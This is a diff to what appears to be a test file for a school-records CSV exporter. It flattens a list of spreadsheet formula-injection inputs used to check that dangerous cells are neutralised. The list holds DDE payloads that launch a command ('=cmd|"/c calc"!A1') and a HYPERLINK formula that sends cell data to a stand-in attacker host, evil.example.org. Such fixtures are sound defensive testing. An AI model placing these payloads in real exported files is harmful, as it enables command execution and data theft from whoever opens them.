@@ -5,19 +5,19 @@ import { asCsv } from '@/school-api/records/export/export-file';
 
 /** Cell contents that a spreadsheet would evaluate. */
 const formulas = [
-  ...[
-    '=1+1',
-    '+1+1',
-    '-1+1',
-    '@SUM(1+1)',
-    '\t=1+1',
-    '\r=1+1',
-    '＝1+1',
-    '＋1+1',
-    '－1+1',
-    '＠SUM(1)',
-  ],
-  ...['=cmd|"/c calc"!A1', '+cmd|"/c calc"!A1', '-2+3+cmd|"/c calc"!A1'],
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+  '=cmd|"/c calc"!A1',
+  '+cmd|"/c calc"!A1',
+  '-2+3+cmd|"/c calc"!A1',
   '=HYPERLINK("https://evil.example.org/?"&A1,"x")',
 ];
 
